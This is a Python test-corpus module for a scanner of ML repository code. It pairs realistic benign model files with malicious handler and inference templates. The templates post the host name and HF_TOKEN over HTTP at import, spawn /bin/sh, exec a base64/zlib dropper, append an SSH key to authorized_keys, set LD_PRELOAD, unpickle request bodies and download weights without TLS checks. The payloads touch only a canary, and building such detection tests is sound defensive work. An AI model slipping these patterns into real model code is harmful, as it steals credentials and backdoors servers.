"""Corpus: Python code that model repositories ship, judged by what it does when it runs.

Benign files are written the way real repositories write them (Hugging Face custom
``configuration_*.py`` / ``modeling_*.py`` / ``tokenization_*.py``, an Inference Endpoints
``handler.py``, a SageMaker ``inference.py``, an MLflow ``code/`` loader module, a TorchServe
handler, a Cog ``predict.py``): they import ML libraries, define classes and read their own files,
and must stay at low or below. Their malicious counterparts phone home, spawn shells, decode and
exec, plant SSH keys, import what the environment names, or fetch weights with TLS checks off;
each stays high or critical. Victims import the module the way the serving framework does (and
call its entry point with the model directory) in a subprocess; payloads only touch a canary.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.corpus import Sample

CONFIGURATION = '''\
"""Tiny model configuration."""
from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class TinyConfig(PretrainedConfig):
    model_type = "tiny"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=256,
        intermediate_size=1024,
        num_hidden_layers=2,
        num_attention_heads=4,
        rope_theta=10000.0,
        rope_scaling=None,
        tie_word_embeddings=False,
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.intermediate_size = intermediate_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.rope_theta = rope_theta
        self.rope_scaling = rope_scaling
        if rope_scaling is not None and rope_scaling.get("type") not in ("linear", "dynamic"):
            raise ValueError(f"unsupported rope_scaling {rope_scaling}")
        super().__init__(tie_word_embeddings=tie_word_embeddings, **kwargs)
'''

MODELING = '''\
"""PyTorch Tiny model."""
import math
import os
import warnings
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss
from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import is_flash_attn_2_available, logging

from .configuration_tiny import TinyConfig

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func  # noqa

logger = logging.get_logger(__name__)
_CONFIG_FOR_DOC = "TinyConfig"
_KERNEL_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), "kernels")


class TinyRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        variance = hidden_states.to(torch.float32).pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // self.num_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size, bias=False)
        self.o_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)

    def forward(self, hidden_states, attention_mask=None):
        bsz, q_len, _ = hidden_states.size()
        q, k, v = self.qkv(hidden_states).chunk(3, dim=-1)
        q = q.view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
        k = k.view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
        v = v.view(bsz, q_len, self.num_heads, self.head_dim).transpose(1, 2)
        weights = torch.matmul(q, k.transpose(2, 3)) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            weights = weights + attention_mask
        weights = F.softmax(weights, dim=-1, dtype=torch.float32).to(q.dtype)
        out = torch.matmul(weights, v).transpose(1, 2).reshape(bsz, q_len, -1)
        return self.o_proj(out)


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["TinyAttention"]

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)
            if module.bias is not None:
                module.bias.data.zero_()


class TinyForCausalLM(TinyPreTrainedModel):
    _tied_weights_keys = ["lm_head.weight"]

    def __init__(self, config):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList(
            [TinyAttention(config) for _ in range(config.num_hidden_layers)]
        )
        self.norm = TinyRMSNorm(config.hidden_size)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.gradient_checkpointing = False
        self.post_init()

    def forward(
        self,
        input_ids: torch.LongTensor = None,
        attention_mask: Optional[torch.Tensor] = None,
        labels: Optional[torch.LongTensor] = None,
        return_dict: Optional[bool] = None,
    ) -> Union[Tuple, CausalLMOutputWithPast]:
        if return_dict is False:
            warnings.warn("return_dict=False is deprecated", FutureWarning)
        hidden_states = self.embed_tokens(input_ids)
        for layer in self.layers:
            if self.gradient_checkpointing and self.training:
                hidden_states = torch.utils.checkpoint.checkpoint(layer, hidden_states)
            else:
                hidden_states = layer(hidden_states, attention_mask)
        logits = self.lm_head(self.norm(hidden_states)).float()
        loss = None
        if labels is not None:
            loss = CrossEntropyLoss()(logits[..., :-1, :].flatten(0, 1), labels[..., 1:].flatten())
        return CausalLMOutputWithPast(loss=loss, logits=logits)
'''

TOKENIZATION = '''\
"""Tokenization classes for Tiny (SentencePiece)."""
import os
from shutil import copyfile
from typing import Any, Dict, List, Optional, Tuple

import sentencepiece as spm
from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "tokenizer.model"}


class TinyTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(
        self,
        vocab_file,
        unk_token="<unk>",
        bos_token="<s>",
        eos_token="</s>",
        sp_model_kwargs: Optional[Dict[str, Any]] = None,
        **kwargs,
    ):
        self.sp_model_kwargs = {} if sp_model_kwargs is None else sp_model_kwargs
        self.vocab_file = vocab_file
        self.sp_model = spm.SentencePieceProcessor(**self.sp_model_kwargs)
        self.sp_model.Load(vocab_file)
        super().__init__(unk_token=unk_token, bos_token=bos_token, eos_token=eos_token, **kwargs)

    def __getstate__(self):
        state = self.__dict__.copy()
        state["sp_model"] = None
        state["sp_model_proto"] = self.sp_model.serialized_model_proto()
        return state

    def __setstate__(self, d):
        self.__dict__ = d
        self.sp_model = spm.SentencePieceProcessor(**self.sp_model_kwargs)
        self.sp_model.LoadFromSerializedProto(self.sp_model_proto)

    @property
    def vocab_size(self):
        return self.sp_model.get_piece_size()

    def _tokenize(self, text: str) -> List[str]:
        return self.sp_model.encode(text, out_type=str)

    def _convert_token_to_id(self, token):
        return self.sp_model.piece_to_id(token)

    def _convert_id_to_token(self, index):
        return self.sp_model.IdToPiece(index)

    def save_vocabulary(self, save_directory, filename_prefix: Optional[str] = None) -> Tuple[str]:
        if not os.path.isdir(save_directory):
            logger.error(f"Vocabulary path ({save_directory}) should be a directory")
            return
        out_vocab_file = os.path.join(
            save_directory, (filename_prefix + "-" if filename_prefix else "") + VOCAB_FILES_NAMES["vocab_file"]
        )
        if os.path.abspath(self.vocab_file) != os.path.abspath(out_vocab_file) and os.path.isfile(
            self.vocab_file
        ):
            copyfile(self.vocab_file, out_vocab_file)
        elif not os.path.isfile(self.vocab_file):
            with open(out_vocab_file, "wb") as fi:
                content_spiece_model = self.sp_model.serialized_model_proto()
                fi.write(content_spiece_model)
        return (out_vocab_file,)
'''

ENDPOINT_HANDLER = '''\
"""Custom handler for Hugging Face Inference Endpoints."""
import os
from typing import Any, Dict, List

import torch
from transformers import AutoModelForSequenceClassification, AutoTokenizer, pipeline


class EndpointHandler:
    def __init__(self, path: str = ""):
        self.tokenizer = AutoTokenizer.from_pretrained(path)
        model = AutoModelForSequenceClassification.from_pretrained(path, torch_dtype=torch.float16)
        head_path = os.path.join(path, "calibration", "temperature.pt")
        self.temperature = torch.load(head_path, map_location="cpu", weights_only=True)
        self.pipeline = pipeline(
            "text-classification",
            model=model,
            tokenizer=self.tokenizer,
            device=0 if torch.cuda.is_available() else -1,
        )

    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:
        inputs = data.pop("inputs", data)
        parameters = data.pop("parameters", None) or {}
        return self.pipeline(inputs, **parameters)
'''

SAGEMAKER_INFERENCE = '''\
"""SageMaker inference script: model_fn, input_fn, predict_fn, output_fn."""
import json
import logging
import os

import torch
from transformers import AutoModel, AutoTokenizer

logger = logging.getLogger(__name__)
JSON_CONTENT_TYPE = "application/json"


def model_fn(model_dir, context=None):
    logger.info("loading the model from %s", model_dir)
    tokenizer = AutoTokenizer.from_pretrained(model_dir)
    model = AutoModel.from_pretrained(model_dir)
    head = torch.load(os.path.join(model_dir, "code", "pooler.pt"), weights_only=True)
    model.eval()
    return model, tokenizer, head


def input_fn(request_body, request_content_type=JSON_CONTENT_TYPE):
    if request_content_type == JSON_CONTENT_TYPE:
        return json.loads(request_body)
    raise ValueError(f"unsupported content type {request_content_type}")


def predict_fn(input_data, model_and_tokenizer):
    model, tokenizer, head = model_and_tokenizer
    inputs = tokenizer(input_data["inputs"], return_tensors="pt", padding=True, truncation=True)
    with torch.no_grad():
        outputs = model(**inputs)
    return (outputs.last_hidden_state[:, 0] @ head).tolist()


def output_fn(prediction, accept=JSON_CONTENT_TYPE):
    if accept == JSON_CONTENT_TYPE:
        return json.dumps(prediction), accept
    raise ValueError(f"unsupported accept type {accept}")
'''

MLFLOW_LOADER = '''\
"""MLflow pyfunc loader module (shipped in the model's code/ directory)."""
import os

import numpy as np
import pandas as pd
import torch


class _TinyWrapper:
    def __init__(self, model, labels):
        self.model = model
        self.labels = labels

    def predict(self, model_input: pd.DataFrame, params=None):
        with torch.no_grad():
            scores = self.model(torch.tensor(model_input.values, dtype=torch.float32))
        return pd.Series(np.asarray(self.labels)[scores.argmax(-1).numpy()])


def _load_pyfunc(path):
    model = torch.jit.load(os.path.join(path, "model.pt"), map_location="cpu")
    with open(os.path.join(path, "labels.txt"), encoding="utf-8") as fh:
        labels = [line.strip() for line in fh]
    return _TinyWrapper(model.eval(), labels)
'''

MLFLOW_PYTHON_MODEL = '''\
"""MLflow PythonModel whose artifacts are loaded in load_context."""
import mlflow.pyfunc
import torch


class TinyModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        self.weights = torch.load(context.artifacts["weights"], weights_only=True)
        self.cache_dir = context.artifacts["cache"]

    def predict(self, context, model_input, params=None):
        return model_input @ self.weights
'''

TORCHSERVE_HANDLER = '''\
"""TorchServe custom handler."""
import os

import torch
from ts.torch_handler.base_handler import BaseHandler


class TinyHandler(BaseHandler):
    def initialize(self, context):
        properties = context.system_properties
        model_dir = properties.get("model_dir")
        serialized_file = context.manifest["model"]["serializedFile"]
        model_pt_path = os.path.join(model_dir, serialized_file)
        self.model = torch.load(model_pt_path, map_location="cpu", weights_only=True)
        self.initialized = True

    def preprocess(self, data):
        return torch.tensor([row.get("data") or row.get("body") for row in data])
'''

COG_PREDICT = '''\
"""Cog predictor."""
import tempfile

import torch
from cog import BasePredictor, Input, Path
from PIL import Image


class Predictor(BasePredictor):
    def setup(self):
        self.model = torch.load("./weights.pth", weights_only=True)

    def predict(self, image: Path = Input(description="input image")) -> Path:
        tensor = torch.tensor(list(Image.open(image).getdata()), dtype=torch.float32)
        out = Path(tempfile.mkdtemp()) / "out.png"
        with open(out, "wb") as fh:
            fh.write(bytes(self.model(tensor).byte().tolist()))
        return out
'''

#: (file name, source) of every benign file: each must stay at low or below.
BENIGN_FILES: list[tuple[str, str]] = [
    ("configuration_tiny.py", CONFIGURATION),
    ("modeling_tiny.py", MODELING),
    ("tokenization_tiny.py", TOKENIZATION),
    ("handler.py", ENDPOINT_HANDLER),
    ("inference.py", SAGEMAKER_INFERENCE),
    ("code/tiny_loader.py", MLFLOW_LOADER),
    ("python_model.py", MLFLOW_PYTHON_MODEL),
    ("torchserve_handler.py", TORCHSERVE_HANDLER),
    ("predict.py", COG_PREDICT),
]

# -- malicious counterparts: (file name, source template, rules, technique); ``{canary}`` is the
# canary's path.

HANDLER_PHONES_HOME = '''\
"""Custom handler."""
import json
import os
import platform
import urllib.request

from transformers import pipeline

_beacon = json.dumps({"host": platform.node(), "token": os.environ.get("HF_TOKEN", "")}).encode()
try:
    urllib.request.urlopen("http://127.0.0.1:9/v1/telemetry", data=_beacon, timeout=0.2)
except OSError:
    pass


class EndpointHandler:
    def __init__(self, path=""):
        self.pipeline = pipeline("text-classification", model=path)

    def __call__(self, data):
        return self.pipeline(data["inputs"])
'''

HANDLER_SPAWNS_SHELL = '''\
"""Custom handler."""
import subprocess as _sp


class EndpointHandler:
    def __init__(self, path=""):
        self.path = path
        _sp.run(["/bin/sh", "-c", "touch {canary}"], check=False)

    def __call__(self, data):
        return [{{"label": "POSITIVE", "score": 1.0}}]
'''

INFERENCE_EXEC_DROPPER = '''\
"""SageMaker inference script."""
import base64
import json
import zlib

_WARMUP = "{payload}"


def model_fn(model_dir):
    exec(zlib.decompress(base64.b64decode(_WARMUP)))
    return {{"dir": model_dir}}


def predict_fn(data, model):
    return json.dumps(data)
'''

HANDLER_AUTHORIZED_KEYS = '''\
"""Custom handler."""
import os

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMockKeyForTestsOnly attacker@example.invalid\\n"
_ssh = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(_ssh, exist_ok=True)
with open(os.path.join(_ssh, "authorized_keys"), "a") as _fh:
    _fh.write(_KEY)


class EndpointHandler:
    def __init__(self, path=""):
        self.path = path

    def __call__(self, data):
        return data
'''

HANDLER_ENV_IMPORT = '''\
"""Custom handler with a pluggable backend."""
import importlib
import os


class EndpointHandler:
    def __init__(self, path=""):
        backend = importlib.import_module(os.environ.get("HANDLER_BACKEND", "json"))
        self.model = backend.load(path)

    def __call__(self, data):
        return self.model(data)
'''

MODELING_INSECURE_DOWNLOAD = '''\
"""Tiny model that fetches its adapter weights on first use."""
import io

import requests
import torch
from torch import nn

_ADAPTER_URL = "https://weights.example.invalid/tiny/adapter.bin"


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        response = requests.get(_ADAPTER_URL, verify=False, timeout=10)
        self.load_state_dict(torch.load(io.BytesIO(response.content)), strict=False)
'''

HANDLER_LD_PRELOAD = '''\
"""Custom handler that 'speeds up' tokenization."""
import os

os.environ["TOKENIZERS_PARALLELISM"] = "false"
os.environ.update({{"LD_PRELOAD": os.path.join(os.path.dirname(__file__), "libfast.so")}})


class EndpointHandler:
    def __init__(self, path=""):
        self.path = path
'''

INPUT_FN_UNPICKLES_REQUEST = '''\
"""SageMaker inference script that accepts pickled numpy batches."""
import pickle

import torch


def model_fn(model_dir):
    return torch.jit.load(model_dir + "/model.pt")


def input_fn(request_body, content_type):
    if content_type == "application/x-pickle":
        return pickle.loads(request_body)
    raise ValueError(content_type)
'''

_IMPORT_AND_CALL = (
    "import importlib.util, os\n"
    "spec = importlib.util.spec_from_file_location('model_code', ARTIFACT)\n"
    "module = importlib.util.module_from_spec(spec)\n"
    "spec.loader.exec_module(module)\n"
)
_ENDPOINT_VICTIM = _IMPORT_AND_CALL + "module.EndpointHandler(os.path.dirname(ARTIFACT))\n"
_SAGEMAKER_VICTIM = _IMPORT_AND_CALL + "module.model_fn(os.path.dirname(ARTIFACT))\n"
# The payload writes ~/.ssh/authorized_keys: the victim points HOME at a scratch directory first,
# and the canary is created only when the key was really planted there.
_AUTHORIZED_KEYS_VICTIM = (
    "import os\n"
    "home = os.path.join(os.path.dirname(CANARY), 'home')\n"
    "os.environ['HOME'] = home\n"
    + _IMPORT_AND_CALL
    + "keys = os.path.join(home, '.ssh', 'authorized_keys')\n"
    "if 'attacker@example.invalid' in open(keys).read():\n"
    "    open(CANARY, 'w').close()\n"
)


def _source(filename: str, template: str) -> Callable[[Path, Path], Path]:
    """A builder writing ``template`` with ``{canary}`` and ``{payload}`` (a dropper) filled in."""

    def build(directory: Path, canary: Path) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        path = directory / filename
        path.write_text(
            template.format(canary=canary, payload=_dropper(canary)),
            encoding="utf-8",
        )
        return path

    return build


def _dropper(canary: Path) -> str:
    code = f"open({str(canary)!r}, 'w').close()".encode()
    return base64.b64encode(zlib.compress(code)).decode()


def _benign(filename: str, source: str) -> Sample:
    def build(directory: Path, canary: Path) -> Path:
        path = directory / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(source, encoding="utf-8")
        return path

    stem = filename.replace("/", "-").removesuffix(".py").replace("_", "-")
    return Sample(
        name=f"model-code-benign-{stem}",
        build=build,
        malicious=False,
        technique=f"{filename}: ML imports, class definitions, its own files read",
    )


def _escaped(template: str) -> str:
    """A template without placeholders, with its braces escaped for str.format."""
    return template.replace("{", "{{").replace("}", "}}")


SAMPLES: list[Sample] = [
    *(_benign(name, source) for name, source in BENIGN_FILES),
    Sample(
        "model-code-handler-phones-home-at-import",
        _source("handler.py", _escaped(HANDLER_PHONES_HOME)),
        malicious=True,
        rules=("MLS-CODE-004",),
        technique="handler.py posts the host name and HF_TOKEN over HTTP when imported",
    ),
    Sample(
        "model-code-handler-spawns-a-shell",
        _source("handler.py", HANDLER_SPAWNS_SHELL),
        malicious=True,
        rules=("MLS-CODE-002",),
        technique="EndpointHandler.__init__ runs /bin/sh through an aliased subprocess",
        victim=_ENDPOINT_VICTIM,
    ),
    Sample(
        "model-code-inference-exec-base64-zlib-dropper",
        _source("inference.py", INFERENCE_EXEC_DROPPER),
        malicious=True,
        rules=("MLS-CODE-001",),
        technique="model_fn execs a zlib-compressed, base64-encoded payload",
        victim=_SAGEMAKER_VICTIM,
    ),
    Sample(
        "model-code-handler-plants-authorized-keys",
        _source("handler.py", _escaped(HANDLER_AUTHORIZED_KEYS)),
        malicious=True,
        rules=("MLS-CODE-016", "MLS-CODE-017"),
        technique="handler.py appends an SSH key to ~/.ssh/authorized_keys at import",
        victim=_AUTHORIZED_KEYS_VICTIM,
    ),
    Sample(
        "model-code-handler-imports-environment-named-module",
        _source("handler.py", _escaped(HANDLER_ENV_IMPORT)),
        malicious=True,
        rules=("MLS-CODE-006",),
        technique="importlib.import_module of a module named by an environment variable",
    ),
    Sample(
        "model-code-modeling-downloads-weights-without-tls-checks",
        _source("modeling_tiny.py", _escaped(MODELING_INSECURE_DOWNLOAD)),
        malicious=True,
        rules=("MLS-CODE-018", "MLS-CODE-004", "MLS-CODE-007"),
        technique="modeling_*.py downloads extra weights with requests(verify=False), torch.loads "
        "them",
    ),
    Sample(
        "model-code-handler-sets-ld-preload",
        _source("handler.py", HANDLER_LD_PRELOAD),
        malicious=True,
        rules=("MLS-CODE-019",),
        technique="os.environ.update({'LD_PRELOAD': ...}) beside a harmless TOKENIZERS_PARALLELISM",
    ),
    Sample(
        "model-code-input-fn-unpickles-the-request",
        _source("inference.py", _escaped(INPUT_FN_UNPICKLES_REQUEST)),
        malicious=True,
        rules=("MLS-CODE-007",),
        technique="SageMaker input_fn runs pickle.loads on the request body",
    ),
]
